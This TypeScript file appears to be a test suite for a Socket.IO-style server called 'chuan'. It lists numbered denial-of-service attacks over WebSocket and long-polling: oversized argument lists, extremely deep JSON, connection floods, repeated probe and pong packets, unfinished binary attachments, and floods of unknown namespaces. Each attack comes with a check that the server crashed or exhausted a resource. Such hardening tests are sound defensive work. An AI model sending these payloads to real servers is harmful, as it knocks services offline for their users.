/** Attacks by one connection with a packet, or with many of a packet. */
import { type Attacker, Session, Wire } from "./attacker";
import type { Condition } from "./report";
import type { Victim } from "./victim";

export interface Attack {
  title: string;
  begin: (url: string) => Promise<Attacker>;
  /** Resolves once the attack has done harm to the victim. */
  succeeds: (victim: Victim, mallory: Attacker) => Promise<unknown>;
}

/** More than the packets that chuan lets a connection send at once. */
const MANY = 1000;
/** So few packets that they arrive together. */
const HUNDREDS = 200;
const many = (packet: string, count = MANY) => Array<string>(count).fill(packet);
const nested = (depth: number) => `${"[".repeat(depth)}${"]".repeat(depth)}`;

const ends = (victim: Victim) => victim.exit();
const becomes = (wanted: (now: Condition, before: Condition) => boolean) => (victim: Victim) =>
  victim.becomes("the harm", wanted);

/** An attack that opens a WebSocket and the namespace, and sends these frames. */
function frames(...sent: (string | Uint8Array<ArrayBuffer>)[]) {
  return async (url: string): Promise<Wire> => {
    const mallory = await Wire.connect(url);
    mallory.send(...sent);
    return mallory;
  };
}

/** An attack that opens a long-polling session and the namespace, and posts this body. */
function body(sent: string) {
  return async (url: string) => {
    const mallory = await Session.connect(url);
    // Some are answered by the end of the server.
    await mallory.post(sent).catch(() => {});
    return mallory;
  };
}

const TOO_MANY_ARGUMENTS = `["chuan",${"0,".repeat(400_000)}0]`;

export const attacks: Attack[] = [
  {
    title: "H1: an event with more arguments than the stack has room for",
    begin: frames(`42${TOO_MANY_ARGUMENTS}`),
    succeeds: ends,
  },
  {
    title: "H1: an event with more arguments than the stack has room for, over long-polling",
    begin: body(`42${TOO_MANY_ARGUMENTS}`),
    succeeds: ends,
  },
  {
    title: "H1: an acknowledgement with more arguments than the stack has room for",
    async begin(url) {
      const mallory = await Wire.connect(url);
      // chuan asks nobody anything, so there any number will do.
      const [, id = 0] = mallory.heard.join().match(/42(\d+)\["are you there\?"/) ?? [];
      mallory.send(`43${id}${TOO_MANY_ARGUMENTS}`);
      return mallory;
    },
    succeeds: ends,
  },
  {
    title: "H2: a thousand CONNECT in one POST",
    async begin(url) {
      const mallory = await Session.open(url);
      await mallory.post(many("40").join("\x1e"));
      return mallory;
    },
    succeeds: becomes(({ sockets }) => sockets >= MANY),
  },
  {
    title: "H2: hundreds of CONNECT while a middleware waits",
    async begin(url) {
      const mallory = await Wire.open(url);
      mallory.send(...many("40", HUNDREDS));
      return mallory;
    },
    succeeds: becomes(({ sockets }) => sockets >= HUNDREDS),
  },
  {
    title: "H3: a probe over and over during an upgrade",
    async begin(url) {
      const { sid } = await Session.open(url);
      const mallory = await Wire.open(url, { sid });
      mallory.send(...many("2probe"));
      return mallory;
    },
    succeeds: becomes(({ timers }) => timers >= MANY),
  },
  {
    title: "H4: a pong over and over, unasked",
    begin: frames(...many("3")),
    succeeds: becomes(({ timers }) => timers >= MANY),
  },
  {
    title: "H4: a pong over and over, unasked, in one POST",
    begin: body(many("3").join("\x1e")),
    succeeds: becomes(({ timers }) => timers >= MANY),
  },
  {
    title: "H6: JSON so deep that code which walks it overflows the stack, passed on to others",
    begin: frames(...[30_000, 60_000, 120_000, 240_000].map((n) => `42["chuan",${nested(n)}]`)),
    succeeds: ends,
  },
  {
    title: "H14: binary attachments that are begun and never finished",
    begin: frames(
      `4510-["chuan",{"_placeholder":true,"num":0}]`,
      ...Array.from({ length: 9 }, () => new Uint8Array(1_000_000)),
    ),
    succeeds: becomes((now, before) => now.memory > before.memory + 8),
  },
  {
    title: "H20: unknown namespaces",
    begin: frames(...Array.from({ length: MANY }, (_, n) => `40/room-${n},`)),
    succeeds: (_, mallory) => mallory.hears(`44/room-${MANY - 1},`),
  },
];
